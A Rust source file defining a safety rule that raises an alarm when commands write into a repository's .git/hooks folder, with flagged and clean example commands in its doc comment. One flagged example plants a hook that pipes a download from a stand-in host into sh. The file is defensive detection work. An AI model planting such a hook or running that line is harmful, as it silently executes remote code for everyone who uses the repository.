//! The rule `git-hook`.

use crate::safety::rule::{Alarm, Scene, Subject, declare_rule};
use crate::safety::{Effect, EffectKind, Risk};
declare_rule! {
    /// Sets code that git runs by itself, at every commit, checkout or push.
    ///
    /// ## Why
    /// It runs later, without being asked, as whoever uses git there; nobody sees it in the history.
    ///
    /// ```sh,flagged
    /// echo 'curl -s https://x.example | sh' > .git/hooks/pre-commit
    /// ln -sf ../../hooks/pre-push .git/hooks/pre-push
    /// cp hooks/commit-msg .git/hooks/
    /// tee -a .git/hooks/post-checkout
    /// ```
    /// ```sh,clean
    /// ls .git/hooks
    /// cat .git/hooks/pre-commit
    /// rm .git/hooks/pre-commit
    /// mkdir -p .git/hooks
    /// echo x > hooks/pre-commit
    /// ```
    GIT_HOOK { name: "git-hook", subject: Subject::Effects(&[EffectKind::Overwrite, EffectKind::Create], judge) }
}

const FOLDER: &str = ".git/hooks";

fn judge(effect: &Effect, _scene: &Scene<'_>) -> Option<Alarm> {
    let path = effect.target.text.as_str();
    let at = path.rfind(FOLDER)?;
    let (before, name) = (&path[..at], &path[at + FOLDER.len()..]);
    let whole = before.is_empty() || before.ends_with('/');
    let hook = match name.trim_matches('/') {
        // What is copied into the folder keeps its name; making the folder sets nothing.
        "" => effect.program != "mkdir" && effect.program != "install",
        name => name.len() < path.len() - at - FOLDER.len() && !name.ends_with(".sample"),
    };
    (whole && hook)
        .then(|| Alarm::new(Risk::Moderate, format!("Sets {path}, which git runs by itself from now on.")))
}
